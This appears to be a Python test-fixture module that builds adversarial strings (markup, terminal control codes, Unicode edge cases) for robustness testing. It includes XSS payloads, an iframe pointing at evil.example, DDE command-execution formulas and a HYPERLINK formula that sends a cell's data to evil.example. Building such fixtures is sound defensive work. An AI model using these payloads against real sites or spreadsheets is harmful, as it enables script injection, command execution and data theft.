"""Labels and payloads that must not do anything but stand there."""

from __future__ import annotations

from itertools import product

MARKUP = [
    "[/red]",
    "[link=https://example.org]x[/link]",
    "[bold",
    "[/]",
    "[@click=f()]a",
    r"\[red]",
    ":smile:",
]
CONTROLS = [
    "\x1b[31m",
    "\x1b]8;;x\x07",
    "\x9b2J",
    "\x00",
    "\x7f",
    "\r",
    "\n",
    "\t",
    "\u2028",
    "\u202e",
    "\u2066",
]
SHAPES = [
    "票" * 60,
    "e\u0301" * 50,
    "שלום עולם",
    "مرحبا",
    "\u200d\u200b",
    "👩\u200d👩\u200d👧",
    "ﷺ" * 20,
    "a" * 500,
]
ODD = ["", " ", "\ud800", "\ue000", "{code}", "{0}", "%s", "…", "\ufffd"]
AROUND = ["{}", "a{}", "{}b", "a {} b", "{0}{0}", "x\u0301{}"]

LABELS = [
    around.replace("{0}", each).replace("{}", each)
    for each, around in product(MARKUP + CONTROLS + SHAPES + ODD, AROUND)
]
"""More than 200 labels."""

TAGS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</pre><h1>x</h1>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<!-- x -->",
    "<![CDATA[x]]>",
    "<b>x",
]
WRAPPINGS = ["{}", '"{}', "'{}", "&{}", "&lt;{}", ">{}", "</span>{}", '" onload="{}', "{}\x00", "x{}y"]

STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", '"=']
CALLS = [
    "{}1+1",
    "{}cmd|' /C calc'!A0",
    '{}HYPERLINK("https://evil.example?"&A1;"x")',
    "\t{}1+1",
    "\r\n{}1+1",
    "x;{}1+1",
    'x;"";{}1+1',
    "{}-5",
    '{}1","{}2',
    "{}SUM(A1:A9)*cmd|x!A",
]
FORMULAS = [call.replace("{}", start) for call, start in product(CALLS, STARTS)]
"""A hundred texts that a spreadsheet would work out, as a cell or behind a semicolon."""

PAYLOADS = [wrapping.replace("{}", tag) for tag, wrapping in product(TAGS, WRAPPINGS)]
"""A hundred pieces of HTML."""
